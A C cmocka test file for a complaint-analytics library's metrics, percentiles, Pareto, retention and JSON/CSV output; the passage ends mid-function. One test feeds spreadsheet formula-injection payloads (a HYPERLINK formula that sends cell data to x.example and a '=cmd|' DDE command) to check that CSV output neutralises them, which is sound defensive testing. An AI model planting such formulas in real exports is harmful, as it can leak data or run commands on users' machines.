/* Insight: every metric on a hand-computed set of ten cases (insight_data.h), the histogram's
 * error bound, JSON and CSV output, and the error paths of adding and reading. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <math.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <jansson.h>
#include <svcrecover.h>
#include "insight_data.h"
#include "support/test_alloc.h"
#include "support/read_all.h"

static svcr_insight *sample_insight(void)
{
    svcr_insight_options options = sample_options();
    svcr_insight *insight;
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_OK);
    for (size_t i = 0; i < 10; i++)
        assert_int_equal(add_sample_case(insight, &sample_cases[i]), SVCR_OK);
    for (size_t i = 0; i < 4; i++)
        assert_int_equal(svcr_insight_add_baseline(insight, sample_baseline[i]), SVCR_OK);
    assert_int_equal(set_sample_owners(insight), SVCR_OK);
    return insight;
}

static void assert_metric(const svcr_insight *insight, const char *name, uint64_t numerator, uint64_t denominator)
{
    svcr_insight_metric_value m = {.size = sizeof m};
    assert_int_equal(svcr_insight_metric_find(insight, name, &m), SVCR_OK);
    assert_string_equal(m.name, name);
    if (m.numerator != numerator || m.denominator != denominator)
        fail_msg("%s: %llu/%llu, want %llu/%llu", name, (unsigned long long)m.numerator,
                 (unsigned long long)m.denominator, (unsigned long long)numerator, (unsigned long long)denominator);
    assert_true(m.value == (double)numerator / (double)denominator);
}

static void counts_by_state_and_outcome(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    assert_int_equal(svcr_insight_case_count(insight), 10);
    assert_int_equal(svcr_insight_state_count(insight, "closed"), 7);
    assert_int_equal(svcr_insight_state_count(insight, "fix"), 1);
    assert_int_equal(svcr_insight_state_count(insight, "follow_up"), 1);
    assert_int_equal(svcr_insight_state_count(insight, "apologize"), 1);
    assert_int_equal(svcr_insight_state_count(insight, "atone"), 0);
    assert_int_equal(svcr_insight_outcome_count(insight, SVCR_INSIGHT_FOLLOW_UP_SATISFIED), 5);
    assert_int_equal(svcr_insight_outcome_count(insight, SVCR_INSIGHT_FOLLOW_UP_NOT_SATISFIED), 1);
    assert_int_equal(svcr_insight_outcome_count(insight, SVCR_INSIGHT_FOLLOW_UP_NONE), 4);
    assert_int_equal(svcr_insight_outcome_count(insight, (svcr_insight_follow_up)7), 0);
    assert_int_equal(svcr_insight_case_count(NULL), 0);
    assert_int_equal(svcr_insight_state_count(NULL, "closed"), 0);
    assert_int_equal(svcr_insight_state_count(insight, NULL), 0);
    assert_int_equal(svcr_insight_outcome_count(NULL, SVCR_INSIGHT_FOLLOW_UP_NONE), 0);
    svcr_insight_free(insight);
}

/* First response: 10..80 s (8 cases), all below 128, so exact. Resolution: 100, 200, 300, 400,
 * 500, 90000, 100000: p50 is 400 reported as its bucket's middle 402 (bucket [400, 404)); p90
 * and p99 are 100000 in bucket [99328, 100352), middle 99840. */
static void times_and_percentiles(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    svcr_insight_time_stats t = {.size = sizeof t};
    assert_int_equal(svcr_insight_times(insight, SVCR_INSIGHT_TIME_FIRST_RESPONSE, &t), SVCR_OK);
    assert_int_equal(t.count, 8);
    assert_int_equal(t.min, 10);
    assert_int_equal(t.max, 80);
    assert_true(t.mean == 45.0);
    assert_int_equal(t.p50, 40);
    assert_int_equal(t.p90, 80);
    assert_int_equal(t.p99, 80);
    assert_int_equal(svcr_insight_times(insight, SVCR_INSIGHT_TIME_RESOLUTION, &t), SVCR_OK);
    assert_int_equal(t.count, 7);
    assert_int_equal(t.min, 100);
    assert_int_equal(t.max, 100000);
    assert_true(t.mean == 191500.0 / 7.0);
    assert_int_equal(t.p50, 402);
    assert_int_equal(t.p90, 99840);
    assert_int_equal(t.p99, 99840);

    int64_t seconds;
    assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_FIRST_RESPONSE, 0.25, &seconds), SVCR_OK);
    assert_int_equal(seconds, 20);
    assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_FIRST_RESPONSE, 1.0, &seconds), SVCR_OK);
    assert_int_equal(seconds, 80);
    assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_FIRST_RESPONSE, 0.01, &seconds), SVCR_OK);
    assert_int_equal(seconds, 10);
    assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_RESOLUTION, 0.0, &seconds), SVCR_EINVAL);
    assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_RESOLUTION, 1.5, &seconds), SVCR_EINVAL);
    assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_RESOLUTION, 0.0 / 0.0, &seconds), SVCR_EINVAL);
    assert_int_equal(svcr_insight_percentile(insight, (svcr_insight_time)9, 0.5, &seconds), SVCR_EINVAL);
    assert_int_equal(svcr_insight_percentile(NULL, SVCR_INSIGHT_TIME_RESOLUTION, 0.5, &seconds), SVCR_EINVAL);
    assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_RESOLUTION, 0.5, NULL), SVCR_EINVAL);
    assert_int_equal(svcr_insight_times(NULL, SVCR_INSIGHT_TIME_RESOLUTION, &t), SVCR_EINVAL);
    assert_int_equal(svcr_insight_times(insight, SVCR_INSIGHT_TIME_RESOLUTION, NULL), SVCR_EINVAL);
    assert_int_equal(svcr_insight_times(insight, (svcr_insight_time)-1, &t), SVCR_EINVAL);
    svcr_insight_free(insight);

    svcr_insight *empty;
    assert_int_equal(svcr_insight_new(NULL, &empty), SVCR_OK);
    assert_int_equal(svcr_insight_percentile(empty, SVCR_INSIGHT_TIME_RESOLUTION, 0.5, &seconds), SVCR_ENOTFOUND);
    assert_int_equal(svcr_insight_times(empty, SVCR_INSIGHT_TIME_RESOLUTION, &t), SVCR_OK);
    assert_int_equal(t.count, 0);
    svcr_insight_free(empty);
}

/* Every reported percentile is within 1/128 of the exact nearest-rank value, over six decades. */
static void percentiles_keep_their_error_bound(void **state)
{
    (void)state;
    svcr_insight *insight;
    assert_int_equal(svcr_insight_new(NULL, &insight), SVCR_OK);
    enum { VALUES = 20000 };
    static int64_t values[VALUES];
    uint64_t x = 12345;
    for (int i = 0; i < VALUES; i++) {
        x = x * 6364136223846793005u + 1442695040888963407u;
        values[i] = (int64_t)((x >> 33) % 3000000); /* 0 s to about 35 days */
        svcr_insight_record r;
        svcr_insight_record_init(&r, sizeof r);
        r.resolution_seconds = values[i];
        assert_int_equal(svcr_insight_add(insight, &r), SVCR_OK);
    }
    /* sort the exact values (insertion into counts would do too; N is small) */
    for (int i = 1; i < VALUES; i++) {
        int64_t v = values[i];
        int j = i - 1;
        while (j >= 0 && values[j] > v) {
            values[j + 1] = values[j];
            j--;
        }
        values[j + 1] = v;
    }
    static const double fractions[] = {0.001, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99, 0.999, 1.0};
    for (size_t f = 0; f < sizeof fractions / sizeof fractions[0]; f++) {
        int64_t reported;
        assert_int_equal(svcr_insight_percentile(insight, SVCR_INSIGHT_TIME_RESOLUTION, fractions[f], &reported), SVCR_OK);
        int64_t exact = values[(int)ceil(fractions[f] * VALUES - 1e-9) - 1];
        double error = fabs((double)(reported - exact));
        if (error > exact * SVCR_INSIGHT_PERCENTILE_ERROR)
            fail_msg("p%g: reported %lld, exact %lld", fractions[f] * 100, (long long)reported, (long long)exact);
    }
    svcr_insight_free(insight);
}

static void rates(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    assert_metric(insight, "responded_share", 8, 10);
    assert_metric(insight, "recovery_rate", 5, 6);
    assert_metric(insight, "reopen_rate", 1, 7);
    assert_metric(insight, "repeat_complaint_rate", 2, 6); /* A and B, of A B C D E F in the window */
    assert_metric(insight, "root_cause_share", 6, 7);
    assert_metric(insight, "solicited_share", 2, 8);
    assert_metric(insight, "owner_mapped_share", 2, 3); /* late, damaged of late, damaged, billing */
    assert_metric(insight, "first_response_within_goal_share", 5, 7);
    assert_metric(insight, "resolution_within_goal_share", 0, 1);
    svcr_insight_metric_value m = {.size = sizeof m};
    assert_int_equal(svcr_insight_metric_find(insight, "expected_retention", &m), SVCR_OK);
    assert_int_equal(m.numerator, 4); /* 4.86 customers, rounded down */
    assert_int_equal(m.denominator, 7);
    assert_true(m.value == 48600.0 / 70000.0);

    /* enumeration: eight fixed metrics, then the timers in name order */
    assert_int_equal(svcr_insight_metric_count(insight), 10);
    assert_int_equal(svcr_insight_metric(insight, 0, &m), SVCR_OK);
    assert_string_equal(m.name, "responded_share");
    assert_int_equal(svcr_insight_metric(insight, 8, &m), SVCR_OK);
    assert_string_equal(m.name, "first_response_within_goal_share");
    assert_int_equal(svcr_insight_metric(insight, 9, &m), SVCR_OK);
    assert_string_equal(m.name, "resolution_within_goal_share");
    assert_int_equal(svcr_insight_metric(insight, 10, &m), SVCR_EINVAL);
    assert_int_equal(svcr_insight_metric(NULL, 0, &m), SVCR_EINVAL);
    assert_int_equal(svcr_insight_metric(insight, 0, NULL), SVCR_EINVAL);
    assert_int_equal(svcr_insight_metric_find(insight, "nps", &m), SVCR_ENOTFOUND);
    assert_non_null(strstr(svcr_error_message(), "\"nps\""));
    assert_int_equal(svcr_insight_metric_find(NULL, "x", &m), SVCR_EINVAL);
    assert_int_equal(svcr_insight_metric_find(insight, NULL, &m), SVCR_EINVAL);
    assert_int_equal(svcr_insight_metric_find(insight, "x", NULL), SVCR_EINVAL);
    assert_int_equal(svcr_insight_metric_count(NULL), 0);
    svcr_insight_free(insight);
}

/* late 4, damaged 2, billing 1 of 7 classified cases: late and damaged reach 6/7 >= 80%. */
static void root_cause_pareto(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    svcr_insight_cause *causes = NULL;
    size_t count;
    assert_int_equal(svcr_test_insight_pareto(insight, &causes, &count), SVCR_OK);
    assert_int_equal(count, 3);
    assert_string_equal(causes[0].cause, "late");
    assert_int_equal(causes[0].cases, 4);
    assert_true(causes[0].share == 4.0 / 7.0);
    assert_true(causes[0].cumulative_share == 4.0 / 7.0);
    assert_true(causes[0].vital_few);
    assert_string_equal(causes[0].owner, "logistics");
    assert_int_equal(causes[0].followed_up, 4);
    assert_int_equal(causes[0].recovered, 4);
    assert_int_equal(causes[0].reopened, 1);
    assert_int_equal(causes[0].resolved, 4);
    assert_true(causes[0].mean_resolution_seconds == 25150.0);
    assert_string_equal(causes[1].cause, "damaged");
    assert_true(causes[1].cumulative_share == 6.0 / 7.0);
    assert_true(causes[1].vital_few);
    assert_int_equal(causes[1].followed_up, 1);
    assert_int_equal(causes[1].recovered, 0);
    assert_true(causes[1].mean_resolution_seconds == 45250.0);
    assert_string_equal(causes[2].cause, "billing");
    assert_true(causes[2].cumulative_share == 1.0);
    assert_false(causes[2].vital_few);
    assert_null(causes[2].owner);
    free(causes);

    assert_int_equal(svcr_insight_pareto(NULL, NULL, 0, &count), SVCR_EINVAL);
    assert_int_equal(svcr_insight_pareto(insight, NULL, 1, &count), SVCR_EINVAL);
    assert_int_equal(svcr_insight_pareto(insight, NULL, 0, NULL), SVCR_EINVAL);
    /* A list that holds fewer rows than there are causes gets the first ones and the full count. */
    svcr_insight_cause first = {.size = sizeof first}, unsized = {.size = 0};
    svcr_insight_cause *room[] = {&first}, *bad[] = {&unsized};
    assert_int_equal(svcr_insight_pareto(insight, room, 1, &count), SVCR_OK);
    assert_int_equal(count, 3);
    assert_string_equal(first.cause, "late");
    assert_int_equal(svcr_insight_pareto(insight, bad, 1, &count), SVCR_EINVAL);
    svcr_insight_free(insight);

    svcr_insight *empty;
    assert_int_equal(svcr_insight_new(NULL, &empty), SVCR_OK);
    assert_int_equal(svcr_test_insight_pareto(empty, &causes, &count), SVCR_OK);
    assert_null(causes);
    assert_int_equal(count, 0);
    svcr_insight_free(empty);
}

/* Recovered scores 9 8 10 7 9 (mean 8.6, variance 1.3); no-failure 8 7 9 8 (mean 8, variance
 * 2/3); index 0.6; Welch's t = 0.6 / sqrt(1.3/5 + (2/3)/4). */
static void recovery_paradox(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    svcr_insight_paradox_figures p = {.size = sizeof p};
    assert_int_equal(svcr_insight_paradox(insight, &p), SVCR_OK);
    assert_int_equal(p.recovered.count, 5);
    assert_true(p.recovered.mean == 8.6);
    assert_true(fabs(p.recovered.stddev - sqrt(1.3)) < 1e-12);
    assert_int_equal(p.not_recovered.count, 1);
    assert_true(p.not_recovered.mean == 3.0);
    assert_true(p.not_recovered.stddev == 0.0);
    assert_int_equal(p.no_failure.count, 4);
    assert_true(p.no_failure.mean == 8.0);
    assert_true(fabs(p.no_failure.stddev - sqrt(2.0 / 3.0)) < 1e-12);
    assert_true(p.defined);
    assert_true(fabs(p.index - 0.6) < 1e-12);
    assert_true(fabs(p.welch_t - 0.6 / sqrt(1.3 / 5 + (2.0 / 3.0) / 4)) < 1e-12);
    assert_int_equal(svcr_insight_paradox(NULL, &p), SVCR_EINVAL);
    assert_int_equal(svcr_insight_paradox(insight, NULL), SVCR_EINVAL);
    svcr_insight_free(insight);
}

/* Classified: minor quick 3 (cases 1, 5, 7), minor unresolved 1 (3); major quick 1 (2), major
 * resolved 1 (8: 100000 s > a day), major unresolved 1 (9: closed, never resolved). Expected:
 * 3 x 0.95 + 0.46 + 0.82 + 0.54 + 0.19 = 4.86 of 7. */
static void expected_retention(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    svcr_insight_retention_figures r = {.size = sizeof r};
    assert_int_equal(svcr_insight_retention(insight, &r), SVCR_OK);
    assert_int_equal(r.cases[0][SVCR_INSIGHT_RESOLVED_QUICKLY], 3);
    assert_int_equal(r.cases[0][SVCR_INSIGHT_RESOLVED], 0);
    assert_int_equal(r.cases[0][SVCR_INSIGHT_UNRESOLVED], 1);
    assert_int_equal(r.cases[1][SVCR_INSIGHT_RESOLVED_QUICKLY], 1);
    assert_int_equal(r.cases[1][SVCR_INSIGHT_RESOLVED], 1);
    assert_int_equal(r.cases[1][SVCR_INSIGHT_UNRESOLVED], 1);
    assert_int_equal(r.classified, 7);
    assert_true(r.expected_retained == 4.86);
    assert_true(r.rate == 48600.0 / 70000.0);
    assert_int_equal(svcr_insight_retention(NULL, &r), SVCR_EINVAL);
    assert_int_equal(svcr_insight_retention(insight, NULL), SVCR_EINVAL);
    svcr_insight_free(insight);

    /* a host table: every unresolved customer leaves, every other stays */
    svcr_insight_options options = sample_options();
    for (int s = 0; s < 2; s++) {
        options.repurchase[s][SVCR_INSIGHT_RESOLVED_QUICKLY] = 10000;
        options.repurchase[s][SVCR_INSIGHT_RESOLVED] = 10000;
        options.repurchase[s][SVCR_INSIGHT_UNRESOLVED] = 0;
    }
    options.quick_resolution_seconds = 0; /* nothing counts as quick */
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_OK);
    for (size_t i = 0; i < 10; i++)
        assert_int_equal(add_sample_case(insight, &sample_cases[i]), SVCR_OK);
    assert_int_equal(svcr_insight_retention(insight, &r), SVCR_OK);
    assert_int_equal(r.cases[0][SVCR_INSIGHT_RESOLVED_QUICKLY], 0);
    assert_int_equal(r.cases[0][SVCR_INSIGHT_RESOLVED], 3);
    assert_true(r.expected_retained == 5.0);
    svcr_insight_free(insight);
}

/* "Resolved quickly" is resolution within quick_resolution_seconds: its end is included. */
static void quick_resolution_includes_its_end(void **state)
{
    (void)state;
    svcr_insight_options options;
    svcr_insight_options_init(&options, sizeof options);
    options.quick_resolution_seconds = 3600;
    svcr_insight *insight;
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_OK);
    static const int64_t resolutions[] = {0, 3599, 3600, 3601};
    for (size_t i = 0; i < sizeof resolutions / sizeof resolutions[0]; i++) {
        svcr_insight_record r;
        svcr_insight_record_init(&r, sizeof r);
        r.state = "closed";
        r.closed = true;
        r.severity = SVCR_INSIGHT_SEVERITY_MINOR;
        r.resolution_seconds = resolutions[i];
        assert_int_equal(svcr_insight_add(insight, &r), SVCR_OK);
    }
    svcr_insight_retention_figures figures = {.size = sizeof figures};
    assert_int_equal(svcr_insight_retention(insight, &figures), SVCR_OK);
    assert_int_equal(figures.cases[0][SVCR_INSIGHT_RESOLVED_QUICKLY], 3);
    assert_int_equal(figures.cases[0][SVCR_INSIGHT_RESOLVED], 1);
    svcr_insight_free(insight);
}

static void json_has_every_section(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    char *text;
    assert_int_equal(svcr_insight_encode(insight, &text), SVCR_OK);
    json_error_t error;
    json_t *root = json_loads(text, 0, &error);
    assert_non_null(root);
    assert_int_equal(json_integer_value(json_object_get(root, "cases")), 10);
    char *by_state = json_dumps(json_object_get(root, "by_state"), JSON_COMPACT | JSON_PRESERVE_ORDER);
    assert_string_equal(by_state, "{\"apologize\":1,\"closed\":7,\"fix\":1,\"follow_up\":1}");
    free(by_state);
    assert_non_null(strstr(text, "\"by_outcome\":{\"no_follow_up\":4,\"recovered\":5,\"not_recovered\":1}"));
    assert_non_null(strstr(text, "\"first_response\":{\"count\":8,\"min\":10,\"max\":80,\"mean\":45.0,\"p50\":40,"
                                 "\"p90\":80,\"p99\":80,\"error_bound\":0.0078125}"));
    assert_non_null(strstr(text, "\"timers\":[{\"name\":\"first_response\",\"met\":5,\"breached\":2,"
                                 "\"within_goal_share\":0.714285714285714},{\"name\":\"resolution\",\"met\":0,"
                                 "\"breached\":1,\"within_goal_share\":0.0}]"));
    assert_non_null(strstr(text, "\"recovery_rate\":{\"value\":0.833333333333333,\"numerator\":5,\"denominator\":6}"));
    assert_non_null(strstr(text, "\"repeat_complaints\":{\"window_start\":0,\"window_end\":1000,\"customers\":6,"
                                 "\"repeat_customers\":2,\"rate\":0.333333333333333}"));
    assert_non_null(strstr(text, "\"vital_few\":[\"late\",\"damaged\"]"));
    assert_non_null(strstr(text, "\"notifications\":{\"owners\":[{\"owner\":\"logistics\",\"cases\":6,"
                                 "\"causes\":[\"late\",\"damaged\"]}],\"unowned_causes\":[\"billing\"]}"));
    assert_non_null(strstr(text, "\"index\":0.6,"));
    assert_non_null(strstr(text, "\"holds\":true}"));
    assert_non_null(strstr(text, "\"retention\":{\"classified_cases\":7,\"expected_retained\":4.86,"
                                 "\"rate\":0.694285714285714,\"table\":[{\"severity\":\"minor\","
                                 "\"resolution\":\"resolved_quickly\",\"cases\":3,\"repurchase\":0.95}"));
    assert_non_null(strstr(text, "\"servqual\":null}"));
    json_decref(root);
    svcr_free(text);
    svcr_insight_free(insight);

    /* an empty accumulator writes nulls where there is no data, never 0/0 */
    assert_int_equal(svcr_insight_new(NULL, &insight), SVCR_OK);
    assert_int_equal(svcr_insight_encode(insight, &text), SVCR_OK);
    assert_non_null(strstr(text, "\"recovery_rate\":{\"value\":null,\"numerator\":0,\"denominator\":0}"));
    assert_non_null(strstr(text, "\"window_start\":null,\"window_end\":null"));
    assert_non_null(strstr(text, "\"index\":null,\"welch_t\":null,\"holds\":null"));
    svcr_free(text);
    assert_int_equal(svcr_insight_encode(NULL, &text), SVCR_EINVAL);
    assert_int_equal(svcr_insight_encode(insight, NULL), SVCR_EINVAL);
    svcr_insight_free(insight);
}

static void csv_tables(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    /* a cause that needs quoting */
    svcr_insight_record r;
    svcr_insight_record_init(&r, sizeof r);
    r.root_cause = "wrong size, \"XL\"";
    assert_int_equal(svcr_insight_add(insight, &r), SVCR_OK);
    char *csv;
    assert_int_equal(svcr_insight_pareto_csv(insight, &csv), SVCR_OK);
    assert_string_equal(csv, "cause,cases,share,cumulative_share,vital_few,owner\r\n"
                             "late,4,0.5,0.5,true,logistics\r\n"
                             "damaged,2,0.25,0.75,true,logistics\r\n"
                             "billing,1,0.125,0.875,true,\r\n"
                             "\"wrong size, \"\"XL\"\"\",1,0.125,1,false,\r\n");
    svcr_free(csv);
    assert_int_equal(svcr_insight_causes_csv(insight, &csv), SVCR_OK);
    assert_string_equal(csv, "cause,cases,followed_up,recovered,recovery_rate,reopened,resolved,"
                             "mean_resolution_seconds,owner\r\n"
                             "late,4,4,4,1,1,4,25150,logistics\r\n"
                             "damaged,2,1,0,0,0,2,45250,logistics\r\n"
                             "billing,1,1,1,1,0,1,400,\r\n"
                             "\"wrong size, \"\"XL\"\"\",1,0,0,,0,0,,\r\n");
    svcr_free(csv);
    assert_int_equal(svcr_insight_pareto_csv(NULL, &csv), SVCR_EINVAL);
    assert_int_equal(svcr_insight_pareto_csv(insight, NULL), SVCR_EINVAL);
    assert_int_equal(svcr_insight_causes_csv(NULL, &csv), SVCR_EINVAL);
    assert_int_equal(svcr_insight_causes_csv(insight, NULL), SVCR_EINVAL);
    svcr_insight_free(insight);
}

/* Cells from user text that a spreadsheet would read as a formula (=, +, -, @, tab, CR first)
 * are written with a leading apostrophe, and quoted: =HYPERLINK(...) is shown, never run. The
 * numeric columns keep their numbers. */
static void csv_neutralises_formulas(void **state)
{
    (void)state;
    static const char *const causes[] = {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1",
                                         "-3", "@SUM(A1:A9)", "\tTAB", "\rCR", "plain -3"};
    static const char *const written[] = {"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",",
                                          "\"'+1\",", "\"'-3\",", "\"'@SUM(A1:A9)\",",
                                          "\"'\tTAB\",", "\"'\rCR\",", "\r\nplain -3,"};
    svcr_insight *insight;
    assert_int_equal(svcr_insight_new(NULL, &insight), SVCR_OK);
    for (size_t i = 0; i < sizeof causes / sizeof causes[0]; i++) {
        svcr_insight_record r;
        svcr_insight_record_init(&r, sizeof r);
        r.root_cause = causes[i];
        for (size_t n = 0; n <= i; n++) /* distinct counts: a known order */
            assert_int_equal(svcr_insight_add(insight, &r), SVCR_OK);
    }
    assert_int_equal(svcr_insight_set_owner(insight, "-3", "=cmd|' /C calc'!A0"), SVCR_OK);
    char *csv;
    assert_int_equal(svcr_insight_pareto_csv(insight, &csv), SVCR_OK);
    for (size_t i = 0; i < sizeof written / sizeof written[0]; i++)
        if (strstr(csv, written[i]) == NULL)
            fail_msg("%s not in\n%s", written[i], csv);
    assert_non_null(strstr(csv, "\"'-3\",3,0.107142857142857,0.892857142857143,true,\"'=cmd|' /C calc'!A0\"\r\n"));
    svcr_free(csv);
    assert_int_equal(svcr_insight_causes_csv(insight, &csv), SVCR_OK);
    assert_non_null(strstr(csv, "\"'-3\",3,0,0,,0,0,,\"'=cmd|' /C calc'!A0\"\r\n"));
    assert_non_null(strstr(csv, "\"'@SUM(A1:A9)\",4,"));
    svcr_free(csv);
    svcr_insight_free(insight);
}

static void bad_records_change_nothing(void **state)
{
    (void)state;
    svcr_insight *insight = sample_insight();
    char *before, *after;
    assert_int_equal(svcr_insight_encode(insight, &before), SVCR_OK);

    svcr_insight_timer unnamed = {sizeof unnamed, NULL, SVCR_INSIGHT_FLAG_YES}, bad_flag = {sizeof bad_flag, "first_response", (svcr_insight_flag)5};
    svcr_insight_record r;
    svcr_insight_record_init(&r, sizeof r);
    assert_int_equal(svcr_insight_add(NULL, &r), SVCR_EINVAL);
    assert_int_equal(svcr_insight_add(insight, NULL), SVCR_EINVAL);
    r.size = 0;
    assert_int_equal(svcr_insight_add(insight, &r), SVCR_EINVAL);
    assert_non_null(strstr(svcr_error_message(), "svcr_insight_record_init"));
#define REJECT(field, value, message)                                                                          \
    do {                                                                                                       \
        svcr_insight_record_init(&r, sizeof r);                                                                          \
        r.state = "new_state"; /* would be counted if the record were accepted */                              \
        r.root_cause = "new cause";                                                                            \
        r.field = value;                                                                                       \
        assert_int_equal(svcr_insight_add(insight, &r), SVCR_EINVAL);                                          \
        assert_non_null(strstr(svcr_error_message(), message));                                                \
    } while (0)
    REJECT(first_response_seconds, -2, "negative");
    REJECT(resolution_seconds, INT64_MIN, "negative");
    REJECT(follow_up, (svcr_insight_follow_up)3, "out of range");
    REJECT(severity, (svcr_insight_severity)-1, "out of range");
    REJECT(solicited, (svcr_insight_flag)3, "out of range");
    REJECT(state, "", "state is empty");
    REJECT(customer, "", "customer is empty");
    REJECT(root_cause, "", "root_cause is empty");
    REJECT(timer_count, 1, "timers is NULL");
    svcr_insight_record_init(&r, sizeof r);
    r.has_satisfaction = true;
    r.satisfaction = SVCR_INSIGHT_SCORE_MAX + 1;
    assert_int_equal(svcr_insight_add(insight, &r), SVCR_EINVAL);
    assert_non_null(strstr(svcr_error_message(), "satisfaction 10001 is outside"));
    r.has_satisfaction = false;
    const svcr_insight_timer *unnamed_list[] = {&unnamed}, *bad_flag_list[] = {&bad_flag};
    r.timers = unnamed_list;
    r.timer_count = 1;
    assert_int_equal(svcr_insight_add(insight, &r), SVCR_EINVAL);
    assert_non_null(strstr(svcr_error_message(), "timer 0 has no name"));
    r.timers = bad_flag_list;
    assert_int_equal(svcr_insight_add(insight, &r), SVCR_EINVAL);

    /* sums that would overflow */
    svcr_insight_record_init(&r, sizeof r);
    r.resolution_seconds = INT64_MAX;
    r.root_cause = "late";
    assert_int_equal(svcr_insight_add(insight, &r), SVCR_EOVERFLOW);

    assert_int_equal(svcr_insight_add_baseline(NULL, 5), SVCR_EINVAL);
    assert_int_equal(svcr_insight_add_baseline(insight, SVCR_INSIGHT_SCORE_MIN - 1), SVCR_EINVAL);
    assert_int_equal(svcr_insight_set_owner(NULL, "a", "b"), SVCR_EINVAL);
    assert_int_equal(svcr_insight_set_owner(insight, NULL, "b"), SVCR_EINVAL);
    assert_int_equal(svcr_insight_set_owner(insight, "a", NULL), SVCR_EINVAL);
    assert_int_equal(svcr_insight_set_owner(insight, "", "b"), SVCR_EINVAL);
    assert_int_equal(svcr_insight_set_owner(insight, "a", ""), SVCR_EINVAL);

    assert_int_equal(svcr_insight_encode(insight, &after), SVCR_OK);
    assert_string_equal(before, after);
    svcr_free(before);
    svcr_free(after);
    svcr_insight_free(insight);
    svcr_insight_free(NULL);
}

static void options_are_checked(void **state)
{
    (void)state;
    svcr_insight *insight = (svcr_insight *)0x1;
    svcr_insight_options options;
    assert_int_equal(svcr_insight_new(NULL, NULL), SVCR_EINVAL);
    svcr_insight_options_init(&options, sizeof options);
    options.size = 0;
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_EINVAL);
    svcr_insight_options_init(&options, sizeof options);
    options.quick_resolution_seconds = -1;
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_EINVAL);
    svcr_insight_options_init(&options, sizeof options);
    options.window_end = options.window_start = 5;
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_EINVAL);
    assert_non_null(strstr(svcr_error_message(), "window"));
    svcr_insight_options_init(&options, sizeof options);
    options.repurchase[1][2] = 10001;
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_EINVAL);
    assert_non_null(strstr(svcr_error_message(), "repurchase[1][2]"));
    svcr_insight_options_init(&options, sizeof options);
    options.customer_fact = "";
    assert_int_equal(svcr_insight_new(&options, &insight), SVCR_EINVAL);
    assert_ptr_equal(insight, (svcr_insight *)0x1);
    svcr_insight_options_init(NULL, sizeof(svcr_insight_options));
    svcr_insight_record_init(NULL, sizeof(svcr_insight_record));

    /* defaults: TARP and a day */
    svcr_insight_options_init(&options, sizeof options);
    assert_int_equal(options.quick_resolution_seconds, 86400);
    assert_int_equal(options.repurchase[0][0], 9500);
    assert_int_equal(options.repurchase[0][1], 7000);
    assert_int_equal(options.repurchase[0][2], 4600);
    assert_int_equal(options.repurchase[1][0], 8200);
    assert_int_equal(options.repurchase[1][1], 5400);
    assert_int_equal(options.repurchase[1][2], 1900);
    assert_string_equal(options.first_response_event, "apologized");
}

static svcr_status whole_pipeline(void *unused)
{
    (void)unused;
    svcr_insight_options options = sample_options();
    svcr_insight *insight = NULL;
    char *json = NULL, *pareto = NULL, *causes_csv = NULL;
    svcr_insight_cause *causes = NULL;
    size_t count;
    static const uint8_t e[22] = {6, 6, 5, 5, 7, 7, 7, 6, 6, 6, 6, 6, 6, 6, 5, 6, 5, 5, 5, 5, 5, 5};
    static const uint8_t points[5] = {10, 30, 25, 20, 15};
    svcr_status status = svcr_insight_new(&options, &insight);
    for (size_t i = 0; status == SVCR_OK && i < 10; i++)
        status = add_sample_case(insight, &sample_cases[i]);
    if (status == SVCR_OK)
        status = set_sample_owners(insight);
    if (status == SVCR_OK)
        status = svcr_insight_add_servqual(insight, e, e, points);
    if (status == SVCR_OK)
        status = svcr_insight_encode(insight, &json);
    if (status == SVCR_OK)
        status = svcr_insight_pareto_csv(insight, &pareto);
    if (status == SVCR_OK)
        status = svcr_insight_causes_csv(insight, &causes_csv);
    if (status == SVCR_OK)
        status = svcr_test_insight_pareto(insight, &causes, &count);
    free(causes);
    svcr_free(json);
    svcr_free(pareto);
    svcr_free(causes_csv);
    svcr_insight_free(insight);
    return status;
}

static void insight_survives_every_allocation_failure(void **state)
{
    (void)state;
    long points = test_alloc_exhaust(whole_pipeline, NULL);
    print_message("insight: new + 10 cases + owners + servqual + JSON + 2 CSV + pareto: %ld allocation points\n",
                  points);
    assert_true(points > 30);
}

/* Records in one list through svcr_insight_add_many() count exactly as one by one. */
static void add_many_equals_add(void **state)
{
    (void)state;
    svcr_insight *one = sample_insight(), *many;
    svcr_insight_options options = sample_options();
    assert_int_equal(svcr_insight_new(&options, &many), SVCR_OK);
    svcr_insight_record records[10];
    const svcr_insight_record *list[10];
    svcr_insight_timer timers[10][2];
    const svcr_insight_timer *timer_list[10][2];
    for (size_t i = 0; i < 10; i++) {
        const sample_case *c = &sample_cases[i];
        svcr_insight_record_init(&records[i], sizeof records[i]);
        records[i].state = c->state;
        records[i].opened_at = c->opened_at;
        records[i].first_response_seconds = c->first_response;
        records[i].resolution_seconds = c->resolution;
        records[i].follow_up = (svcr_insight_follow_up)c->follow_up;
